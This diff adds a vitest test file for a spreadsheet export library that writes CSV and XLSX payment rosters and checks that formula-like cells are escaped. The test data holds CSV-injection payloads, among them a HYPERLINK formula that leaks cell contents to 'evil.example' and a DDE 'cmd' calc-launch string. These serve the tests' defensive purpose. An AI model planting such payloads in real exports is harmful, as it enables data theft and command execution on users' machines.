@@ -1,0 +1,326 @@
+import { readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { buffer } from 'node:stream/consumers';
+import { fenMax, formatYuan, parseYuan } from '@fundtrace/money';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
+import fc from 'fast-check';
+import iconv from 'iconv-lite';
+import { describe, expect, it } from 'vitest';
+import {
+  type CellValue,
+  cellLengthMax,
+  escapeCsvCell,
+  isFormulaLike,
+  type OutputColumn,
+  writeCsv,
+  writeTemplate,
+  writeXlsx,
+} from '../src/index';
+import { readAll, rosterColumns, scratchDir } from './helpers';
+
+const dir = await scratchDir();
+
+const outputColumns = [
+  { field: 'household_no', header: '户编号', kind: 'text' },
+  { field: 'name', header: '户主姓名' },
+  { field: 'amount', header: '金额（元）', kind: 'money' },
+  { field: 'paid_on', header: '发放日期', kind: 'date' },
+  { field: 'note', header: '备注' },
+] as const satisfies readonly OutputColumn[];
+
+type Row = Record<(typeof outputColumns)[number]['field'], CellValue>;
+
+const triggers = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+/** Text that often starts with a formula trigger. */
+const dangerousText = fc.oneof(
+  fc.string(),
+  fc.tuple(fc.constantFrom(...triggers), fc.string()).map(([trigger, rest]) => trigger + rest),
+  fc.constantFrom(
+    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "=cmd|' /C calc'!A0",
+    '@SUM(1+1)*cmd|',
+    '-2+3',
+    '+86 138',
+  ),
+);
+
+describe('escapeCsvCell', () => {
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+86 138', "'+86 138"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tx', "'\tx"],
+    ['\rx', "'\rx"],
+    ['＝1+1', "'＝1+1"],
+    ['-1234.56', '-1234.56'],
+    ['-5', '-5'],
+    ['张三', '张三'],
+    ['', ''],
+    ['a=b', 'a=b'],
+  ])('%j → %j', (text, escaped) => {
+    expect(escapeCsvCell(text)).toBe(escaped);
+  });
+
+  it('leaves no cell that a spreadsheet would execute, and changes nothing else', () => {
+    fc.assert(
+      fc.property(dangerousText, (text) => {
+        const escaped = escapeCsvCell(text);
+        expect(isFormulaLike(escaped)).toBe(false);
+        expect(escaped === text || escaped === `'${text}`).toBe(true);
+        if (!isFormulaLike(text)) expect(escaped).toBe(text);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+});
+
+describe('writeCsv', () => {
+  it('writes UTF-8 with BOM, CRLF, money as 1234.56, dates as ISO days', async () => {
+    const bytes = await buffer(
+      writeCsv<keyof Row>(
+        [
+          {
+            household_no: '0012',
+            name: '张三',
+            amount: 123456n,
+            paid_on: new Date(Date.UTC(2019, 4, 3)),
+            note: null,
+          },
+          { household_no: '0013', name: '李, "四"', amount: -5n, paid_on: '2019-05-04', note: undefined },
+        ],
+        outputColumns,
+      ),
+    );
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(bytes.subarray(3).toString('utf8')).toBe(
+      '户编号,户主姓名,金额（元）,发放日期,备注\r\n0012,张三,1234.56,2019-05-03,\r\n0013,"李, ""四""",-0.05,2019-05-04,\r\n',
+    );
+  });
+
+  it('escapes every cell, headers included, so no written cell is formula-like', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(fc.record({ name: dangerousText, note: dangerousText }), { maxLength: 20 }),
+        dangerousText,
+        async (rows, header) => {
+          const csv = await buffer(
+            writeCsv(rows, [
+              { field: 'name', header },
+              { field: 'note', header: '备注' },
+            ]),
+          );
+          const records: string[][] = parse(csv, { bom: true, relax_column_count: true });
+          expect(records).toHaveLength(rows.length + 1);
+          for (const record of records) for (const cell of record) expect(isFormulaLike(cell)).toBe(false);
+        },
+      ),
+      { numRuns: 200 },
+    );
+  });
+
+  it('writes GB18030 for old spreadsheets, which readTable reads back', async () => {
+    const bytes = await buffer(
+      writeCsv(
+        [{ household_no: '1', name: '刘䶮', amount: 100n, paid_on: null, note: '危房' }],
+        outputColumns,
+        {
+          encoding: 'gb18030',
+        },
+      ),
+    );
+    expect(iconv.decode(bytes, 'gb18030')).toContain('刘䶮');
+    expect(bytes.includes(Buffer.from('刘', 'utf8'))).toBe(false);
+    const [row] = await readAll({ bytes, filename: 'export.csv' }, { columns: rosterColumns });
+    expect(row?.values).toMatchObject({ name: '刘䶮', amount: '1.00' });
+  });
+
+  it('round-trips money through CSV and parseYuan exactly', async () => {
+    const amounts = fc.sample(fc.bigInt({ min: -fenMax, max: fenMax }), 500);
+    const csv = await buffer(
+      writeCsv(
+        amounts.map((amount, i) => ({
+          household_no: String(i),
+          name: 'n',
+          amount,
+          paid_on: null,
+          note: null,
+        })),
+        outputColumns,
+      ),
+    );
+    const rows = await readAll({ bytes: csv, filename: 'x.csv' }, { columns: rosterColumns });
+    expect(rows.map((row) => parseYuan(row.values.amount, { allowNegative: true, allowZero: true }))).toEqual(
+      amounts.map((fen) => ({ ok: true, fen })),
+    );
+  });
+
+  it('refuses money that is not a bigint and cells longer than a spreadsheet holds', async () => {
+    await expect(
+      buffer(writeCsv([{ amount: 12.5 }], [{ field: 'amount', header: '金额', kind: 'money' }])),
+    ).rejects.toThrow(/bigint of fen/);
+    await expect(
+      buffer(writeCsv([{ note: 'x'.repeat(cellLengthMax + 1) }], [{ field: 'note', header: '备注' }])),
+    ).rejects.toThrow(/do not fit/);
+    expect(() => writeCsv([], [])).toThrow(TypeError);
+  });
+});
+
+describe('writeXlsx', () => {
+  it('round-trips rows through exceljs and readTable: text, money, dates, numbers', async () => {
+    const bytes = await buffer(
+      writeXlsx(
+        [
+          { household_no: '0012', name: '张三', amount: 123456n, paid_on: '2019-05-03', note: 42 },
+          {
+            household_no: '411325199001011234',
+            name: '李四',
+            amount: -1n,
+            paid_on: new Date(Date.UTC(2020, 1, 29)),
+            note: 'x',
+          },
+        ],
+        outputColumns,
+        { sheetName: '发放明细' },
+      ),
+    );
+    const rows = await readAll({ bytes, filename: 'export.xlsx' }, { columns: rosterColumns });
+    expect(rows.map((row) => row.values)).toEqual([
+      { household_no: '0012', name: '张三', amount: '1234.56', paid_on: '2019-05-03', note: '42' },
+      { household_no: '411325199001011234', name: '李四', amount: '-0.01', paid_on: '2020-02-29', note: 'x' },
+    ]);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
+    const sheet = workbook.getWorksheet('发放明细')!;
+    expect(sheet.getCell('C2').value).toBe(1234.56);
+    expect(sheet.getCell('C2').numFmt).toBe('#,##0.00');
+    expect(sheet.getCell('A3').value).toBe('411325199001011234');
+  });
+
+  it('writes formula-looking text as plain strings, never as formulas', async () => {
+    const texts = fc.sample(dangerousText, 300);
+    const bytes = await buffer(
+      writeXlsx(
+        texts.map((note) => ({ note })),
+        [{ field: 'note', header: '=HEADER()' }],
+      ),
+    );
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
+    const sheet = workbook.worksheets[0]!;
+    expect(sheet.getCell('A1').value).toBe('=HEADER()');
+    let checked = 0;
+    sheet.eachRow((row) => {
+      row.eachCell((cell) => {
+        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+        expect(typeof cell.value).toBe('string');
+        checked += 1;
+      });
+    });
+    expect(checked).toBe(1 + texts.filter((text) => text !== '').length);
+  });
+
+  it('round-trips every amount up to fenMax exactly through a number cell', async () => {
+    const amounts = [
+      0n,
+      1n,
+      fenMax,
+      -fenMax,
+      fenMax - 1n,
+      999_999_999_999_99n,
+      ...fc.sample(fc.bigInt({ min: -fenMax, max: fenMax }), 2000),
+    ];
+    const bytes = await buffer(
+      writeXlsx(
+        amounts.map((amount, i) => ({ no: String(i), amount })),
+        [
+          { field: 'no', header: '户编号' },
+          { field: 'amount', header: '金额', kind: 'money' },
+        ],
+      ),
+    );
+    const rows = await readAll(
+      { bytes, filename: 'x.xlsx' },
+      {
+        columns: [
+          { field: 'no', headers: ['户编号'] },
+          { field: 'amount', headers: ['金额'] },
+        ],
+      },
+    );
+    const back = rows.map((row) => parseYuan(row.values.amount, { allowNegative: true, allowZero: true }));
+    expect(back).toEqual(amounts.map((fen) => ({ ok: true, fen })));
+    expect(rows[2]?.values.amount).toBe(formatYuan(fenMax, { grouping: false }).replace(/\.00$/, ''));
+  });
+
+  it('replaces characters XML cannot carry instead of writing a file Excel refuses', async () => {
+    const bytes = await buffer(
+      writeXlsx([{ note: 'a\u0000b\u001Fc\uD800' }], [{ field: 'note', header: '备注' }]),
+    );
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
+    expect(workbook.worksheets[0]!.getCell('A2').value).toBe('a\uFFFDb\uFFFDc\uFFFD');
+  });
+
+  it('refuses bad sheet names and bad values', async () => {
+    expect(() => writeXlsx([], [{ field: 'a', header: 'a' }], { sheetName: 'a/b' })).toThrow(/sheet name/);
+    expect(() => writeXlsx([], [{ field: 'a', header: 'a' }], { sheetName: 'x'.repeat(32) })).toThrow(
+      /sheet name/,
+    );
+    await expect(buffer(writeXlsx([{ a: 1 }], [{ field: 'a', header: 'a', kind: 'money' }]))).rejects.toThrow(
+      /bigint of fen/,
+    );
+  });
+});
+
+describe('writeTemplate', () => {
+  it('writes a template that readTable reads back as the example row, with text columns kept as text', async () => {
+    const path = join(dir, 'roster-template.xlsx');
+    const columns = rosterColumns.map((column) =>
+      column.field === 'household_no'
+        ? { ...column, kind: 'text' as const, description: '县扶贫办编制的户编号' }
+        : column,
+    );
+    await writeTemplate(
+      columns,
+      { household_no: '0012', name: '张三', amount: 800000n, paid_on: '2019-05-03', note: '示例' },
+      path,
+    );
+    const rows = await readAll({ path }, { columns: rosterColumns, unknownColumns: 'reject' });
+    expect(rows).toEqual([
+      {
+        rowNumber: 2,
+        values: { household_no: '0012', name: '张三', amount: '8000', paid_on: '2019-05-03', note: '示例' },
+        problems: [],
+      },
+    ]);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(path);
+    const [data, guide] = workbook.worksheets;
+    expect(data!.getCell('A1').value).toBe('*户编号');
+    expect(data!.getCell('E1').value).toBe('备注');
+    expect(data!.getColumn(1).numFmt).toBe('@');
+    expect(data!.getCell('C2').numFmt).toBe('#,##0.00');
+    expect(guide!.name).toBe('填写说明');
+    expect(guide!.getRow(2).values).toEqual([
+      undefined,
+      '户编号',
+      '必填',
+      'household_no、household no',
+      '县扶贫办编制的户编号',
+    ]);
+  });
+
+  it('is read by the same specs even when staff delete the * marks', async () => {
+    const path = join(dir, 'edited-template.xlsx');
+    await writeTemplate(rosterColumns, { household_no: '1', name: 'a', amount: 1n }, path);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(path);
+    workbook.worksheets[0]!.getCell('A1').value = '户编号';
+    await workbook.xlsx.writeFile(path);
+    await writeFile(join(dir, 'copy.xlsx'), await readFile(path));
+    const rows = await readAll({ path: join(dir, 'copy.xlsx') }, { columns: rosterColumns });
+    expect(rows[0]?.values).toMatchObject({ household_no: '1', amount: '0.01' });
+  });
+});
